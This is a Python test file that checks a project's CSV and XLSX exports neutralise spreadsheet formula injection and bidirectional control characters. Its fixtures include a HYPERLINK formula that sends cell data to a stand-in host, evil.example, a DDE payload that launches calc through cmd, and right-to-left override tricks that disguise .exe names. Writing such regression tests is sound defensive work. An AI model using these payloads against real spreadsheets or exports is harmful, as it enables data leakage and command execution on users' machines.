"""Issue 16, finding 10: spreadsheet formulas (``=HYPERLINK(…)`` as a look-up's purpose) and
bidi control characters passed through the exports. Every CSV/XLSX export now writes its cells
through ``core.spreadsheet``."""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from beistand.core.spreadsheet import neutralise
from beistand.register import access_log
from beistand.stats import exports
from beistand.stats.tables import Table
from tests.register.test_access_log import dpo, log, querier  # noqa: F401 (fixtures)

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1;"Akte öffnen")'
RLO = "\u202e"  # right-to-left override: "Az. 1/2<RLO>txt.exe" shows reversed


@pytest.mark.parametrize("value, expected", [
    (FORMULA, "'" + FORMULA),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    (f"Az. 1/2{RLO}fdp.exe", "Az. 1/2fdp.exe"),
    (f"{RLO}=1", "'=1"),  # removing the control cannot uncover a formula
    ("\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u202a\u202b\u202c\u202dok", "ok"),
    ("Hausbesuch 3 - 4 Uhr", "Hausbesuch 3 - 4 Uhr"),
    ("<5", "<5"),
    (-3, -3),
    (None, None),
])
def test_cells_are_neutralised(value, expected):
    assert neutralise(value) == expected


@pytest.mark.django_db
def test_dpo_access_log_csv_carries_no_formula_and_no_bidi(dpo, querier):  # noqa: F811
    log(querier, shown=[7], purpose=FORMULA)
    log(querier, shown=[7], purpose=f"Az. 50/1{RLO}gnuhcuseB")
    rows = list(csv.reader(io.StringIO(access_log.export_csv(dpo, person_id=7)),
                           delimiter=";"))
    purposes = sorted(row[5] for row in rows[1:])
    assert purposes == sorted(["'" + FORMULA, "Az. 50/1gnuhcuseB"])
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            assert RLO not in cell


def _table():
    return Table(key="t", title="=Titel", caption="", columns=["@Einheit", "Anzahl"],
                 rows=[[FORMULA, 7], [f"Rathaus{RLO}", "<5"], ["Summe", 12]], note="-Hinweis")


def test_statistics_csv_and_xlsx_carry_no_formula_and_no_bidi():
    text = exports.to_csv([_table()], [("Zeitraum", "+2025")], 5).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
    assert "'" + FORMULA in cells and "Rathaus" in cells and "'+2025" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    book = load_workbook(io.BytesIO(exports.to_xlsx([_table()], [("Zeitraum", "+2025")], 5)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert RLO not in cell.value
                    assert not cell.value.startswith(("=", "+", "-", "@"))
    sheet = book.worksheets[1]
    assert sheet["A3"].value == "'" + FORMULA and sheet["B3"].value == 7


def test_no_export_writes_cells_around_the_shared_helper():
    """Every CSV/XLSX writer of the project goes through core.spreadsheet."""
    src = Path(__file__).resolve().parents[2] / "src" / "beistand"
    offenders = []
    for path in src.rglob("*.py"):
        if path.name == "spreadsheet.py":
            continue
        text = path.read_text(encoding="utf-8")
        direct_csv = re.search(r"csv\.(writer|DictWriter)\(", text)
        raw_cells = "openpyxl" in text and re.search(
            r"\b(sheet|info|ws)\.append\((?!neutralise_row|\[\]\))", text)
        if direct_csv or raw_cells:
            offenders.append(str(path.relative_to(src)))
    assert offenders == []
